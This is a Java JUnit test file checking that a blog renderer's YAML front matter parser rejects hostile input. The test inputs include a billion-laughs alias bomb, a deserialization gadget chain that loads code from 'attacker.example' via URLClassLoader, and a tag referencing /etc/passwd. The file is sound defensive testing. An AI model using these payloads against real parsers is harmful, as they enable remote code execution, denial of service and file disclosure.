package dev.postrenderer.post;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/** Hostile YAML is refused quickly, with an error an author can act on. */
@Timeout(10)
class FrontMatterSafetyTest {

    private static final PostParser PARSER = new PostParser(4 * 1024 * 1024);
    private static final SourceKey KEY = SourceKey.of("posts/hostile.md");

    private static Post parse(String text) {
        return PARSER.parse(KEY, text.getBytes(UTF_8));
    }

    @Test
    void billionLaughsAliasesAreRejected() {
        String bomb = """
                ---
                a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
                b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
                c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
                d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
                e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
                f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
                g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
                h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
                i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
                ---
                """;
        assertThatThrownBy(() -> parse(bomb))
                .isInstanceOf(InvalidPostException.class)
                .hasMessageContaining("aliases (*a) are not allowed")
                .hasMessageContaining("line 3, column 8");
    }

    @Test
    void evenAScalarAliasIsRejected() {
        assertThatThrownBy(() -> parse("---\ntitle: &t Hello\ndescription: *t\n---\n"))
                .isInstanceOf(InvalidPostException.class)
                .hasMessageContaining("aliases");
    }

    @Test
    void globalTagsCannotInstantiateClasses() {
        String exploit = """
                ---
                title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/"]]]]
                ---
                """;
        assertThatThrownBy(() -> parse(exploit))
                .isInstanceOf(InvalidPostException.class)
                .hasMessageContaining("posts/hostile.md: front matter:")
                .hasMessageContaining("javax.script.ScriptEngineManager");
    }

    @Test
    void globalTagsAreRejectedInKeysKeptForLayoutsToo() {
        assertThatThrownBy(() -> parse("---\nextra: !!java.io.File [/etc/passwd]\n---\n"))
                .isInstanceOf(InvalidPostException.class)
                .hasMessageContaining("java.io.File");
    }

    @Test
    void duplicateKeysAreRejectedWithTheirLine() {
        assertThatThrownBy(() -> parse("---\ntitle: One\ndescription: x\ntitle: Two\n---\n"))
                .isInstanceOf(InvalidPostException.class)
                .hasMessageContaining("duplicate key 'title'")
                .hasMessageContaining("line 4, column 1");
    }

    @Test
    void duplicateKeysInNestedMappingsAreRejected() {
        assertThatThrownBy(() -> parse("---\nseries:\n  name: a\n  name: b\n---\n"))
                .isInstanceOf(InvalidPostException.class)
                .hasMessageContaining("duplicate key");
    }

    @Test
    void elevenLevelsOfNestingAreRejectedAndTenAreAccepted() {
        assertThat(parse(nested(10)).frontMatter().extra()).containsKey("k");
        assertThatThrownBy(() -> parse(nested(11)))
                .isInstanceOf(InvalidPostException.class)
                .hasMessageContaining("Nesting Depth exceeded");
    }

    @Test
    void aOneMegabyteScalarIsRejected() {
        String huge = "---\ntitle: " + "x".repeat(1024 * 1024) + "\n---\nbody";
        assertThatThrownBy(() -> parse(huge))
                .isInstanceOf(InvalidPostException.class)
                .hasMessageContaining("front matter is larger than");
    }

    /** Front matter whose mappings nest {@code depth} deep, the document's own mapping included. */
    private static String nested(int depth) {
        StringBuilder yaml = new StringBuilder("---\n");
        String indent = "";
        yaml.append("k:");
        for (int level = 2; level < depth; level++) {
            indent += "  ";
            yaml.append('\n').append(indent).append("k:");
        }
        indent += "  ";
        yaml.append('\n').append(indent).append("k: leaf\n---\n");
        return yaml.toString();
    }
}
